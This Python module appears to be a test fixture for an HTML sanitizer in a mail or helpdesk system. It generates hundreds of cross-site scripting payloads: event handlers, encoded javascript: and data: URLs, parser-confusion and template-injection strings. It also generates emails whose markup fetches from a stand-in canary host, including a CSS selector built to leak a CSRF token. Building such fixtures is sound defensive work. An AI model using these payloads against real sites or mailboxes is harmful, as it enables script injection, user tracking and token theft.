"""What somebody could send to run a script at an agent's, or to have their browser fetch something. Made up here."""

from collections.abc import Iterator
from itertools import product
from typing import Final

CANARY: Final = "canary.example"
_RUN: Final = "alert(1);top.document.title='taken'"
_NAMES_OF_EVENTS = """
    onload onerror onclick onfocus onmouseover onpointerenter onanimationstart ontoggle onscroll onbegin onwheel
    onbeforetoggle onpageshow onhashchange onresize
"""
_EVENTS: Final = tuple(_NAMES_OF_EVENTS.split())
_HOSTS_OF_EVENTS: Final = (
    "<img src=x {event}={run}>",
    "<svg {event}={run}></svg>",
    "<body {event}={run}>",
    "<details open {event}={run}><summary>x</summary></details>",
    "<input autofocus {event}={run}>",
    "<video src=x {event}={run}></video>",
    '"><img src=x {event}={run}>',
    "'><svg/{event}={run}>",
    "<a tabindex=0 autofocus {event}={run}>x</a>",
)
_SCRIPT_ADDRESSES: Final = (
    "javascript:{run}",
    "JaVaScRiPt:{run}",
    "java\tscript:{run}",
    "java\nscript:{run}",
    " \x01javascript:{run}",
    "&#106;avascript:{run}",
    "&#x6A&#x61vascript:{run}",
    "javascript&colon;{run}",
    "vbscript:{run}",
    "data:text/html,<script>{run}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{run}'/>",
    "blob:https://desk.example/{run}",
)
_PLACES_OF_ADDRESSES: Final = (
    '<a href="{address}">x</a>',
    '<img src="{address}">',
    '<iframe src="{address}"></iframe>',
    '<form action="{address}"><button>x</button></form>',
    '<object data="{address}"></object>',
    '<embed src="{address}">',
    '<svg><a xlink:href="{address}"><text y="9">x</text></a></svg>',
    '<math><mi href="{address}">x</mi></math>',
    '<base href="{address}">',
)
_ODD: Final = (
    "<script>{run}</script>",
    "<SCRIPT SRC=//canary.example/x.js></SCRIPT>",
    "<scr<script>ipt>{run}</scr</script>ipt>",
    "<script/x>{run}</script/y>",
    "<script\x00>{run}</script>",
    "</script><script>{run}</script>",
    "</textarea><script>{run}</script>",
    "</title><script>{run}</script>",
    "</style><script>{run}</script>",
    "--><script>{run}</script>",
    "]]><script>{run}</script>",
    "<!--<img src='--><img src=x onerror={run}//'>",
    "<![CDATA[<script>{run}</script>]]>",
    "<?xml version='1.0'?><script>{run}</script>",
    "<noscript><p title='</noscript><img src=x onerror={run}>'>",
    "<math><mtext><table><mglyph><style><img src=x onerror={run}></style></mglyph></table></mtext></math>",
    "<svg><style><img src=x onerror={run}></style></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>{run}</script>'></iframe></foreignObject></svg>",
    "<svg><animate attributeName=href values=javascript:{run} /><a id=x><text y=9>x</text></a></svg>",
    "<svg><set attributeName=onmouseover to={run} /></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=\"http://www.w3.org/2000/svg\"><script>{run}</script></svg>#x'>",
    "<template><script>{run}</script></template>",
    "<template shadowrootmode=open><script>{run}</script></template>",
    "<iframe srcdoc='&lt;script&gt;{run}&lt;/script&gt;'></iframe>",
    "<meta http-equiv=refresh content='0;url=javascript:{run}'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\"><script>{run}</script>",
    "<link rel=import href='data:text/html,<script>{run}</script>'>",
    "<link rel=stylesheet href='javascript:{run}'>",
    "<div style='background:url(javascript:{run})'>x</div>",
    "<div style='width:expression({run})'>x</div>",
    "<style>@import 'javascript:{run}';</style>",
    "<button form=composer formaction=javascript:{run}>x</button>",
    "<input type=image src=x onerror={run}>",
    "<isindex action=javascript:{run} type=submit>",
    "<marquee onstart={run}>x</marquee>",
    "<frameset onload={run}></frameset>",
    "<plaintext><script>{run}</script>",
    "<select><noembed></select><script x='a@b'a>{run}</script>",
    "<table background=javascript:{run}><tr><td>x</td></tr></table>",
    "<x contenteditable onbeforeinput={run}>x</x>",
    "<a href=# onclick={run}>x</a>",
    "<dialog open onclose={run}><form method=dialog><button>x</button></form></dialog>",
    "<portal src=javascript:{run}></portal>",
    "<div hx-get=/cases/ hx-trigger=load hx-on::load={run}>x</div>",
    "<div data-command=send data-part id=timeline hx-on:click={run}>x</div>",
    "{{% load i18n %}}{{{{ request }}}}{{% include 'base.html' %}}",
    "{{{{7*7}}}}${{7*7}}<%= 7*7 %>#{{7*7}}",
    "%3Cscript%3E{run}%3C/script%3E",
    "\\u003cscript\\u003e{run}\\u003c/script\\u003e",
    "+ADw-script+AD4-{run}+ADw-/script+AD4-",
    "\ufe64script\ufe65{run}\ufe64/script\ufe65",
    "\u202e<script>{run}</script>",
    "' autofocus onfocus={run} x='",
    '" autofocus onfocus={run} x="',
    "` onmouseover={run} `",
    "';{run}//",
    '";{run}//',
    "\u2028{run}//",
    "<img src='x' title='<a href=' alt=' x=\"><script>{run}</script>'>",
)


def scripts() -> Iterator[str]:
    """Yield several hundred ways to have a script run."""
    for place, event in product(_HOSTS_OF_EVENTS, _EVENTS):
        yield place.format(event=event, run=_RUN)
    for place, address in product(_PLACES_OF_ADDRESSES, _SCRIPT_ADDRESSES):
        yield place.format(address=address.format(run=_RUN))
    for odd in _ODD:
        yield odd.format(run=_RUN)


_AT: Final = f"https://{CANARY}/p"
_FETCHES: Final = (
    '<img src="{at}">',
    '<img srcset="{at} 2x" src="x">',
    '<img src="x" lowsrc="{at}" dynsrc="{at}">',
    '<picture><source srcset="{at}"><img></picture>',
    '<input type="image" src="{at}">',
    '<video src="{at}" poster="{at}" autoplay></video>',
    '<audio src="{at}" autoplay></audio>',
    '<video><track src="{at}" default></video>',
    '<object data="{at}"></object>',
    '<embed src="{at}">',
    '<iframe src="{at}"></iframe>',
    '<frameset><frame src="{at}"></frameset>',
    '<link rel="stylesheet" href="{at}">',
    '<link rel="preload" as="image" href="{at}">',
    '<link rel="prefetch" href="{at}">',
    '<link rel="dns-prefetch" href="{at}">',
    '<link rel="icon" href="{at}">',
    '<meta http-equiv="refresh" content="0;url={at}">',
    '<base href="{at}/"><img src="p.gif">',
    '<body background="{at}">',
    '<table background="{at}"><tr><td background="{at}">x</td></tr></table>',
    '<svg><image href="{at}"/><use href="{at}#a"/></svg>',
    '<svg><feImage xlink:href="{at}"/></svg>',
    '<script src="{at}"></script>',
    '<a href="{at}" ping="{at}">x</a>',
    '<form action="{at}"><input autofocus></form>',
    '<blockquote cite="{at}">x</blockquote>',
    '<q cite="{at}">x</q>',
    "<html manifest='{at}'>",
    "<style>@import '{at}';</style>",
    "<style>@import url({at});</style>",
    "<style>@font-face {{ font-family: f; src: url({at}) }} * {{ font-family: f }}</style>",
    "<style>input[name=csrfmiddlewaretoken][value^=a] {{ background: url({at}) }}</style>",
    "<style>body {{ background-image: image-set('{at}' 1x) }}</style>",
    "<style>a::before {{ content: url({at}) }}</style>",
    "<style>p {{ cursor: url({at}), auto }}</style>",
    "<style>ul {{ list-style-image: url({at}) }}</style><ul><li>x</li></ul>",
    '<div style="background: url({at})">x</div>',
    '<div style="background: u\\72l({at})">x</div>',
    '<div style="background: url(&quot;{at}&quot;)">x</div>',
    '<div style="-webkit-mask: url({at})">x</div>',
    '<div style="border-image: url({at})">x</div>',
    '<div style="shape-outside: url({at})">x</div>',
    '<div style="content: url({at})">x</div>',
    '<div style="filter: url({at}#f)">x</div>',
    '<div style="position: fixed; inset: 0; z-index: 9; background: url({at})">x</div>',
    '<li style="list-style: url({at})">x</li>',
    '<p style="behavior: url({at}); -moz-binding: url({at})">x</p>',
    '<img src="//canary.example/p">',
    '<img src="\\\\canary.example\\p">',
    '<img src="http:canary.example/p">',
    '<img src=" https://canary.example/p ">',
)


def fetches() -> Iterator[str]:
    """Yield a hundred mails, each of which wants something fetched."""
    for number, fetch in enumerate(_FETCHES):
        yield f"<p>Hallo</p>{fetch.format(at=f'{_AT}{number}.png')}"
        yield f"<div><b>Beste</b><div>{fetch.format(at=f'http://{CANARY}/{number}.css')}</div></div>".upper()
